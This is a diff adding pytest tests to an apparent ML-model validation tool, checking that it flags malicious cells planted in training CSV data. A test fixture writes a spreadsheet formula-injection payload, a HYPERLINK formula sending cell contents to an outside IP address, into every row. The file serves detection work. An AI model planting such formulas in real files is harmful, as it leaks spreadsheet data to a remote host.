@@ -226,6 +226,7 @@ def test_remedies_say_what_they_would_change(loans, capsys):
     words = [*train, "--eps", "0.25", "--remedy", "squeeze=4", "--remedy", "reweighing"]
     _validate(loans, *words, "--format", "json")
     squeeze, reweighing = json.loads(capsys.readouterr().out)["remedies"]
+    assert squeeze["name"] == "squeeze=4"
     assert set(squeeze["before"]) == {"accuracy", "robust_accuracy@0.25"}
     gap = "gap in selection of yes"
     assert reweighing["after"][gap] < reweighing["before"][gap] - 0.1
@@ -458,3 +459,37 @@ def test_a_model_that_looks_at_nothing_is_told(tmp_path, capsys):
     _plain_graph(tmp_path / "model.onnx", 0.0)
     _validate(tmp_path, "--eps", "", model="model.onnx")
     assert "all 300 rows get the same score" in capsys.readouterr().out
+
+
+def _with_planted(folder: Path, name: str) -> Path:
+    """Training rows of which each has a cell that a spreadsheet would run."""
+    rows = _people(1, 600).assign(note='=HYPERLINK("http://198.51.100.7/?"&A1)')
+    path = folder / name
+    rows.to_csv(path, index=False)
+    return path
+
+
+def test_what_was_planted_in_the_training_rows_is_told_as_theirs(loans, tmp_path, capsys):
+    train = _with_planted(tmp_path, "planted.csv")
+    words = ("--eps", "", "--no-triggers", "--format", "json", "--train")
+    assert _validate(loans, *words, str(train)) == 1  # as a scan of them fails
+    told = json.loads(capsys.readouterr().out)
+    named = {one["control"] for one in told["findings"] if "training data: " in one["message"]}
+    assert any(name.startswith("dataset/") for name in named)
+    _validate(loans, *words, str(loans / "train.csv"))
+    clean = json.loads(capsys.readouterr().out)
+    assert not [one for one in clean["findings"] if "training data: " in one["message"]]
+
+
+def test_the_data_controls_can_be_left_out_and_are_for_rows_that_are_many(
+    loans, tmp_path, capsys, monkeypatch
+):
+    from hauberk.cli import _validate_training
+
+    train = _with_planted(tmp_path, "planted.csv")
+    words = ("--eps", "", "--no-triggers", "--train", str(train))
+    _validate(loans, *words, "--no-data-controls")
+    assert "raining data" not in capsys.readouterr().out
+    monkeypatch.setattr(_validate_training, "MAX_BYTES", 1 << 10)
+    _validate(loans, *words)
+    assert f"run hauberk scan {train} --label approve" in capsys.readouterr().out
